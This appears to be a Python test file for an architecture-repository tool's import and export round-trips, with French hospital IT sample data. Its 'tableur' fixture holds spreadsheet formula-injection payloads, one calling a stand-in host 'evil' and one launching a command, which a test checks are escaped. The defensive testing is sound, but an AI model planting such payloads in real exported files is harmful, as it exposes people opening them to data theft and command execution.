"""Elements that go out come back the same: nothing changes where they came from, all is there elsewhere."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from ea_repo.exchange.importing import Asked
from ea_repo.exchange.writers import writers
from ea_repo.load import load
from ea_repo.repository import Repository
from ea_repo.select.paths import fields
from tests.exchange.importing import a_workspace, graph, planned, refusals

IMPORTABLE = [name for name in ("archi", "archimate", "csv", "graphml", "json-graph", "xlsx") if name in writers()]
SI = """\
site: {hegp: {name: HEGP}, bichat: {name: Bichat}}
actor: {dsi: {name: DSI, type: directorate}, editeur: {name: "L'Éditeur, SA"}, doublon: {name: DSI}}
process:
  lits: {name: Gestion des lits, critical: true}
data_object: {identite: {name: Identité patient, sensitivity: health}}
referential:
  siu: {name: SIU, masters: [{to: identite, for: [orbis, hegp]}], scope: regional, sanctuarised: true}
application:
  agathe:
    name: AGATHE
    aliases: ["Agathe, ou", '"AGATHE"', "deux\\nlignes"]
    description: |-
      Une ligne.

      Une autre, « avec » des guillemets.
    supports: [{to: lits, for: admissions, need: vital}]
    deployed_at: [hegp, {to: bichat, from: 2023-06-01, until: "2024", note: "pilote {bis}"}]
    moa: dsi
    moe: doublon
    supplier: editeur
    live_on: 2019
    phase_out_on: 2024-06
    retired_on: 2025-12-31
    exposed: false
    availability_commitment: false
    upgrade_plan: "2024"
    needs: {availability: 3, integrity: 0}
    rto: 4 h
    yearly_cost: 120000.5
    budget:
      - {year: 2021, class: 2, amount: 10, basis: amount}
      - {year: 2022, class: 6, amount: -3.5, basis: difference-2021}
    approvals: {dsi: {on: 2020-01-01, note: "oui, mais"}, dpo: false}
    properties: {Salle: B12, Étages: ["1", "2"]}
  orbis: {name: ORBIS, type: core, part_of: agathe, contracts: [], tags: []}
  tableur:
    name: =HYPERLINK("http://evil/?"&A1)
    aliases: ["@SUM(1+1)*cmd|' /C calc'!A0", "'=1", "''+1", "-"]
    description: "-2+3"
    properties: {"+1": "=1", Bas: ["-1", "＝1"]}
flow:
  siu-orbis: {source: siu, target: orbis, data: [identite], mode: message, port: 2575, need: vital}
"""


def exported(root: Path, name: str, *selector: str, to: Path | None = None) -> Path:
    """The file in which these elements go out, without the maps."""
    out = Repository(root).export(name, selector, "fr", views=False)
    file = (to or root.parent) / f"out{out.ending}"
    file.write_bytes(b"".join(out.content))
    return file


def whole(root: Path) -> dict[str, dict[str, Any]]:
    """Everything that a workspace says, by element, with its kind; several values in the order of their texts."""
    read = load(root).graph
    return {id: {"kind": read.kind(id), **_comparable(fields(read, id))} for id in read}


def _comparable(value: Any) -> Any:
    if isinstance(value, dict):
        return {name: _comparable(part) for name, part in value.items()}
    return sorted(map(_comparable, value), key=json.dumps) if isinstance(value, list) else value


@pytest.mark.parametrize("name", IMPORTABLE)
def test_what_comes_back_unchanged_changes_nothing(tmp_path: Path, name: str) -> None:
    root = a_workspace(tmp_path, si=SI)
    plan = planned(root, exported(root, name)).plan
    assert (plan.changed, plan.added, plan.gone, plan.conflicts, refusals(plan)) == ((), (), (), (), [])
    assert not plan.writes


@pytest.mark.parametrize("name", IMPORTABLE)
def test_a_new_workspace_says_the_same(tmp_path: Path, name: str) -> None:
    root, new = a_workspace(tmp_path, si=SI), tmp_path / "new"
    plan = Repository.import_in_new(new, Asked((exported(root, name),)))
    assert refusals(plan.plan) == []
    Repository.carry_out_in_new(new, plan)
    assert whole(new) == whole(root)


@pytest.mark.parametrize("name", IMPORTABLE)
def test_a_part_comes_back_alone(tmp_path: Path, name: str) -> None:
    root = a_workspace(tmp_path, si=SI)
    plan = planned(root, exported(root, name, "application", "id=agathe")).plan
    assert (plan.changed, plan.added, plan.gone, refusals(plan), plan.writes) == ((), (), (), [], False)


def test_no_cell_of_the_table_is_a_formula_and_a_number_stays_one(tmp_path: Path) -> None:
    lines = exported(a_workspace(tmp_path, si=SI), "csv").read_text(encoding="utf-8-sig")
    table = {row["id"]: row for row in csv.DictReader(io.StringIO(lines, newline=""))}
    assert not [cell for row in table.values() for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
    tableur, agathe = table["tableur"], table["agathe"]
    assert (tableur["name"][:12], tableur["description"], agathe["yearly_cost"]) == (
        "'=HYPERLINK(",
        "'-2+3",
        "120000.5",
    )


def test_a_graph_that_was_edited_says_what_changed_where(tmp_path: Path) -> None:
    root = a_workspace(tmp_path, si=SI)
    file = exported(root, "json-graph")
    said = json.loads(file.read_text(encoding="utf-8"))
    said["graph"]["nodes"]["orbis"]["metadata"]["fields"]["criticality"] = "critical"
    said["graph"]["nodes"]["agathe"]["metadata"]["fields"]["live_on"] = "jamais"
    edge = next(edge for edge in said["graph"]["edges"] if edge["source"] == "siu-orbis" and edge["relation"] == "data")
    edge["target"] = "identitee"
    file.write_text(json.dumps(said), encoding="utf-8")
    plan = planned(root, file).plan
    assert [(change.id, change.field, change.before, change.after) for change in plan.changed] == [
        ("orbis", "criticality", None, "critical")
    ]
    assert [place for place, _ in refusals(plan)] == [
        f"out.json:/graph/edges/{said['graph']['edges'].index(edge)}", "out.json:/graph/nodes/agathe",
    ]  # fmt: skip


def test_only_the_lines_of_what_changed_are_written_and_comments_stay(tmp_path: Path) -> None:
    root = a_workspace(tmp_path, si="# le parc\napplication:\n  a: {name: A}   # ne pas toucher\n  b:\n    name: B\n")
    file = exported(root, "json-graph")
    file.write_text(file.read_text(encoding="utf-8").replace('"name": "B"', '"name": "Bé"'), encoding="utf-8")
    repository = Repository(root)
    repository.carry_out(planned(root, file))
    text = (root / "model" / "si.yaml").read_text(encoding="utf-8")
    assert text == "# le parc\napplication:\n  a: {name: A}   # ne pas toucher\n  b:\n    name: Bé\n"
    assert sorted(path.name for path in (root / "model").iterdir()) == ["si.yaml"]
    assert graph(root).name("b") == "Bé"
